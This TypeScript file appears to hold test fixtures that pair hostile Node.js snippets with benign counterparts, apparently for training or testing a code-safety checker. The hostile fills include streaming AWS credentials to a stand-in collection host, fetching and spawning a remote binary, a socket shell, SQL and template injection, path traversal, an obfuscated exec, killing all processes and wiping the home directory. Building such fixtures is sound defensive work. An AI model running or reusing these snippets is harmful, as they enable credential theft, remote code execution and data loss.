import type { Pair } from './pair.ts';

/** Programs for Node with the intentions of the others in other words, and servers that believe whoever asks. */
export const JAVASCRIPT_VARIANTS: readonly Pair[] = [
  [
    'read-promises',
    `
import { readFile } from 'node:fs/promises';

const text = await readFile('§0', 'utf8');
console.log(text.split('\\n').length, text);`,
    ['/etc/shadow'],
    ['notes.txt'],
  ],
  [
    'copy-system-file',
    `
const fs = require('fs');

fs.copyFile('§0', '§1', (error) => console.log(error ?? 'copied'));`,
    ['/etc/passwd', '/usr/passwd.copy'],
    ['a.txt', 'b.txt'],
  ],
  [
    'rename-system-file',
    `
const { renameSync } = require('node:fs');

renameSync('§0', '§1');`,
    ['/etc/hostname', '/etc/hostname.old'],
    ['draft.md', 'final.md'],
  ],
  [
    'stream-file-out',
    `
const fs = require('fs');
const https = require('https');

const request = https.request('§0', { method: 'POST' });
fs.createReadStream('§1').pipe(request);`,
    ['https://collect.example.net/in', '/root/.aws/credentials'],
    ['https://api.example.com/photos', 'photo.jpg'],
  ],
  [
    'fetch-and-spawn',
    `
const { writeFileSync, chmodSync } = require('fs');
const { spawn } = require('child_process');

(async () => {
  const reply = await fetch('§0');
  writeFileSync('§1', Buffer.from(await reply.arrayBuffer()));
  §2
})();`,
    [
      'http://203.0.113.17/agent',
      '/tmp/agent',
      "chmodSync('/tmp/agent', 0o755); spawn('/tmp/agent', [], { detached: true });",
    ],
    ['https://data.example.com/list.json', 'list.json', "console.log('saved', typeof chmodSync, typeof spawn);"],
  ],
  [
    'socket-shell',
    `
const net = require('net');
const { execSync } = require('child_process');

const socket = net.createConnection({ port: 6000, host: '§0' });
socket.on('data', (data) => §1);`,
    ['127.0.0.1', 'socket.write(execSync(data.toString()))'],
    ['127.0.0.1', 'console.log(data.length, typeof execSync)'],
  ],
  [
    'query-in-statement',
    `
const express = require('express');
const { Pool } = require('pg');

const app = express();
const pool = new Pool();
app.get('/people', async (request, response) => {
  const found = await pool.query(§0);
  response.json(found.rows);
});`,
    ['"SELECT * FROM people WHERE name = \'" + request.query.name + "\'"'],
    ["'SELECT * FROM people WHERE name = $1', [request.query.name]"],
  ],
  [
    'file-by-query',
    `
const express = require('express');
const path = require('path');

const app = express();
app.get('/file', (request, response) => response.sendFile(path.join(__dirname, 'public', §0)));`,
    ['request.query.name'],
    ["'index.html'"],
  ],
  [
    'redirect-by-query',
    `
const express = require('express');

const app = express();
app.get('/next', (request, response) => response.redirect(§0));`,
    ['request.query.to'],
    ["'/items/' + encodeURIComponent(request.query.to)"],
  ],
  [
    'template-by-query',
    `
const express = require('express');
const ejs = require('ejs');

const app = express();
app.get('/hello', (request, response) => response.send(ejs.render(§0)));`,
    ["'<h1>' + request.query.name + '</h1>'"],
    ["'<h1><%= name %></h1>', { name: request.query.name }"],
  ],
  [
    'assembled-method',
    `
const child = require('child_process');

console.log(typeof child, §0);`,
    ["child['exe' + 'cSync']('id').toString()"],
    ["Math['m' + 'ax'](1, 2)"],
  ],
  [
    'kill-everything',
    `
process.kill(§0, 'SIG§1');`,
    ['-1', 'KILL'],
    ['process.pid', 'USR2'],
  ],
  [
    'wipe-home',
    `
const { rm } = require('fs/promises');
const os = require('os');
const path = require('path');

rm(§0, { recursive: true, force: true }).then(() => console.log(path.sep, os.EOL.length));`,
    ['os.homedir()'],
    ["path.join('build', 'cache')"],
  ],
];
